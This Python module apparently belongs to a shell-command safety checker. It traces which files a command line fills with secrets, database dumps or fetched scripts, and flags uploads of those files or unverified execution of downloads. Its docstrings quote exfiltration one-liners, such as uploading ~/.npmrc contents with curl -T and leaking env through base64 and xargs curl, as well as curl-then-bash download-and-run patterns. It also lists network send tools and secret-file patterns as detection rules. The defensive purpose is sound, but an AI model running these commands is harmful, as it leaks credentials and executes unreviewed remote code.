"""What a line puts into files, and then does with them. Pure; linear.

`{ uname -a; cat ~/.npmrc; } > report.txt && curl -T report.txt https://…`: the file is as secret as what went into
it, and so is a copy or an archive of it. `curl -o x.sh URL && bash x.sh` is `curl URL | bash`: nobody has read the
script. A check of what was fetched (`sha256sum -c`, `gpg --verify`) between the two excuses it.
"""

from __future__ import annotations

import itertools
import posixpath
import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from typing import Literal

from holdfast.commandline.model import Run
from holdfast.judging import secret_files, sent_tokens
from holdfast.patterns import lazy_pattern
from holdfast.shell.tools import listed
from holdfast.shell.wrappers import SHELLS

Content = Literal["secret", "dump", "fetched", "unproved"]
"""What may be in a file: secrets, a whole database, what came from another machine, and that by nobody's proof."""

_READS = listed(
    "cat tac head tail less more bat base64 base32 xxd od hexdump gzip bzip2 xz zstd openssl gpg age tar zip 7z 7za "
    "rar cp rsync dd sed awk jq yq sort tee install strings printf echo"
)
_CARRIES = listed("cp mv ln install cat base64 gzip bzip2 xz zstd tar bsdtar zip 7z 7za rar openssl tee split")
"""What goes into these comes out of them."""
_SEALS = listed("kubeseal sops ansible-vault git-crypt")
"""What these write, anybody may have."""
_SAYS_ALL = listed("env printenv")
_DUMPS = listed("pg_dump pg_dumpall mysqldump mariadb-dump mongodump")
_SENDS = listed(
    "curl wget http https httpie xh nc ncat netcat socat ftp lftp sftp scp rsync rclone gh glab gist pastebinit croc "
    "wormhole transfer mutt mail mailx sendmail swaks s3cmd s5cmd aws gsutil ssh telnet websocat"
)
_OWN_STORES = listed("aws gsutil rclone s3cmd s5cmd rsync scp ssh sftp")
"""What goes by these is most often a backup to a store of one's own: only secrets are asked about, no dumps."""
_WEB = listed("curl wget http https httpie xh nc ncat netcat")
_FETCHES = listed("curl wget")
_INTERPRETERS = SHELLS | listed("python python3 perl ruby node php source .")
_SCRIPT = lazy_pattern(r"\.(?:sh|bash|zsh|py|pl|rb|js|php|run)\Z")
_CHECKS = lazy_pattern(
    r"(?:sha\d*sum|shasum|md5sum|b2sum|cksum)\b.*(?:\s-\w*c|--check)|gpgv?\b.*--verify|gpgv\s|minisign\b.*\s-V|cosign\s+verify"
)
_LOCAL = lazy_pattern(r"(?:https?://)?(?:localhost|127\.0\.0\.1|\[::1\])(?:[:/]|\Z)")
_UNPROVED = lazy_pattern(
    r"(?i)(?:http|ftp)://(?!10\.|127\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|[^./:]+[:/]|[^/:]+\.(?:local|internal|lan|test)[:/])|"
    r"(?:https://)?(?!10\.|127\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)\d{1,3}(?:\.\d{1,3}){3}[:/]"
)
"""An address that does not say who answers: without TLS, or by its number. A network of one's own is not meant."""
_ONLY_NAMES = lazy_pattern(r"\A(?:-c|-l|-q|-d=|--count|--files-with-matches|-f1)")
_ARCHIVE = lazy_pattern(r"\.(?:tar(?:\.\w+)?|tgz|tbz2?|txz|zip|7z|rar)\Z")
_OUTPUT = frozenset({"-o", "-f", "--file", "--output", "-out", "--out"})
_MOST = 50


@dataclass(slots=True)
class Carried:
    """What is known behind the runs that were looked at."""

    sends: set[int] = field(default_factory=set)
    """The places of the runs that send a file into which the line put secrets or a database."""
    runs_unread: dict[int, Run] = field(default_factory=dict)
    """The places of the runs that run what the line has fetched, each as the pipe that it stands for."""
    files: dict[str, dict[Content, str]] = field(default_factory=dict)
    """By its name what is in a file, and the program that it came from."""

    def names(self, *wanted: Content) -> set[str]:
        return {name for name, contents in self.files.items() if not contents.keys().isdisjoint(wanted)}

    def put(self, names: Iterable[str], contents: dict[Content, str]) -> None:
        if contents and len(self.files) < _MOST * 4:
            for name in names:
                if name:
                    self.files.setdefault(posixpath.normpath(name), {}).update(contents)


def followed(runs: Sequence[Run]) -> Carried:
    """The files that the runs of a line write, with what is in them, and who sends or runs them."""
    found = Carried()
    if not any(run.program in _SENDS or (run.program == "git" and "push" in run.texts[:4]) for run in runs):
        return found
    open_secrets: list[Run] = []
    """What was printed, and may go into the file of the group or the function that it stands in."""
    listing: Run | None = None
    staged = False
    for number, run in enumerate(runs):
        if run.remote:
            continue
        if run.program == "xargs":
            listing = run
        elif run.program in _SENDS and "xargs" in run.via and listing is not None and _lists_secrets(listing, run):
            found.sends.add(number)
        if found.files:
            staged = _uses(found, run, number, staged=staged)
        if run.program in _FETCHES:
            names = list(_fetched(run))
            found.put(names, {"fetched": run.program})
            is_unproved = any(map(_UNPROVED.match, run.texts))
            found.put((each for each in names if is_unproved or _is_hidden(each)), {"unproved": run.program})
        files = {arg.text for _, arg in run.writes} | _packed(run)
        if _is_secret(run):
            found.put(files, {"secret": run.program})
            if not files and len(open_secrets) < _MOST:
                open_secrets.append(run)
        elif files and open_secrets and (not run.program or any(run.program in each.via for each in open_secrets)):
            found.put(files, {"secret": run.program})
        elif files and (run.program in _DUMPS or _DUMPS.intersection(run.piped_from)):
            found.put(files, {"dump": run.program})
        elif files and found.files and run.program in _CARRIES:
            for text in (*run.texts[:_MOST], *run.fed_by[:_MOST]):
                found.put(files, found.files.get(posixpath.normpath(text), {}) if text not in files else {})
    return found


# --- what is done with a file


def _uses(found: Carried, run: Run, number: int, *, staged: bool) -> bool:
    """Note what a run does with files of the line. Answers whether git has one of the secret ones staged."""
    if run.program in _SENDS and _is_sent(run, found):
        found.sends.add(number)
    if run.program == "git":
        staged = staged or ("add" in run.texts[:4] and bool(found.names("secret").intersection(map(_plain, run.texts))))
        if staged and "push" in run.texts[:4]:
            found.sends.add(number)
    if _CHECKS.match(" ".join((run.program, *run.texts[:10]))):
        for contents in found.files.values():
            contents.pop("fetched", None)  # without it `unproved` says nothing
    elif run.program not in _FETCHES and (name := _started(run, found)) is not None:
        program = run.program if run.program in _INTERPRETERS - {"source", "."} else "sh"
        by = found.files[name]["fetched"]
        found.runs_unread[number] = Run(program, piped_from=(by,), via=run.via, directory=run.directory)
    return staged


def _is_hidden(name: str) -> bool:
    """A program by the name of a hidden file, among what is temporary: `/tmp/.x`."""
    return name.startswith(("/tmp/", "/var/tmp/", "/dev/shm/")) and posixpath.basename(name).startswith(".")


def _plain(name: str) -> str:
    return posixpath.normpath(name) if name else ""


def _started(run: Run, found: Carried) -> str | None:
    """The file that the line has fetched and that a run runs: a script, or a program that nothing proves."""
    fetched = found.names("fetched")
    if run.program in _INTERPRETERS:
        first = next((text for text in run.texts if not text.startswith("-")), "")
        return posixpath.normpath(first) if posixpath.normpath(first) in fetched else None
    if not _SCRIPT.search(run.program):
        fetched &= found.names("unproved")
    return next((name for name in fetched if posixpath.basename(name).lower() == run.program), None)


def _is_sent(run: Run, found: Carried) -> bool:
    given = [*run.fed_by, *(text for word in run.texts for text in (word, _file_of(word)))]
    names = {posixpath.normpath(text) for text in given if text}
    wanted = found.names("secret") if run.program in _OWN_STORES else found.names("secret", "dump")
    if any(name.startswith("$") for name in run.fed_by):  # `< "$out"` is not followed; a file of `mktemp` is meant
        names |= {name for name in wanted if name.startswith("$TMPDIR/made-now")}
    return not names.isdisjoint(wanted) and secret_files.NEAR.search(" ".join(run.texts)) is None


def _file_of(word: str) -> str:
    """The file in a word of a call: `file=@/tmp/x;type=a`, `@/tmp/x`, `--body-file=/tmp/x`, `-T/tmp/x`."""
    behind = word.rpartition("@")[2] if "@" in word else word.rpartition("=")[2] if "=" in word else word
    return behind.partition(";")[0].lstrip("<")


def _lists_secrets(listing: Run, sender: Run) -> bool:
    """`env | base64 | xargs -I{} curl "https://…/?d={}"`: each word of the list becomes a part of a call that sends."""
    if not _TAKES_WORD.search(" ".join(listing.texts)) and sender.program not in _WEB:
        return False
    if _ONLY_METADATA.intersection(listing.piped_from) or secret_files.NEAR.search(" ".join(sender.texts)):
        return False
    if _SAYS_ALL.intersection(listing.piped_from) or any(secret_files.FILE.search(name) for name in listing.fed_by):
        return True
    said = secret_files.PRINTS_TOKEN.search(" ".join(listing.fed_by)) is not None
    return said and not any(sent_tokens.is_header(text) for text in sender.texts)


_TAKES_WORD = lazy_pattern(r"(?:^|\s)(?:-I|-i|--replace)")
_ONLY_METADATA = listed("cut wc md5sum sha1sum sha256sum sha512sum shasum cksum")


# --- what goes into a file


def _is_secret(run: Run) -> bool:
    """Does a run print or copy secrets?"""
    if run.program in _WEB and any(map(secret_files.METADATA.search, run.texts)):
        return True
    if run.program in _SAYS_ALL:
        return not run.args
    if run.program in _SEALS:
        return False
    if any(secret_files.FILE.search(name) for name in run.fed_by) or _SAYS_ALL.intersection(run.piped_from):
        # Only the names of the variables: `env | cut -d= -f1`.
        return not any(_ONLY_NAMES.match(text) for text in run.texts)
    if secret_files.PRINTS_TOKEN.search(" ".join((run.program, *run.texts[:_MOST], *run.fed_by[:_MOST]))):
        return bool(run.writes)
    return run.program in _READS and any(secret_files.FILE.search(text) for text in run.texts)


def _packed(run: Run) -> set[str]:
    """The file that a program makes of what it is given: an archive, a copy."""
    words = [text for text in run.texts if not text.startswith("-")]
    if run.program in ("cp", "mv", "ln", "install", "rsync") and len(words) > 1:
        return {words[-1]}
    if run.program in ("tar", "bsdtar", "zip", "7z", "7za", "rar"):
        return {text for text in words if _ARCHIVE.search(text)}
    if run.program == "tee":
        return set(words)
    return {value for option, value in itertools.pairwise(run.texts) if option in _OUTPUT}


def _fetched(run: Run) -> Iterator[str]:
    """The files into which something is fetched from another machine."""
    addresses = [text for text in run.texts if "://" in text or re.match(r"[\w-]+(?:\.[\w-]+)+/", text)]
    if not addresses or any(map(_LOCAL.match, addresses)):
        return
    yield from (target.text for mode, target in run.writes if mode == "write")
    wanted = "o" if run.program == "curl" else "O"
    named = False
    for option, value in itertools.pairwise((*run.texts, "")):
        long, sign, told = option.partition("=")
        if long in ("--output", "--output-document"):
            named = True
            yield told if sign else value
        elif re.match(rf"-[a-zA-Z]*{wanted}\Z", option):
            named = True
            yield value
        elif option.startswith(f"-{wanted}") and option[2:]:
            named = True
            yield option[2:]
    by_name = run.program == "wget" or any(re.match(r"-[a-zA-Z]*O|--remote-name", text) for text in run.texts)
    if not named and by_name:
        yield from (posixpath.basename(address.partition("?")[0]) for address in addresses)
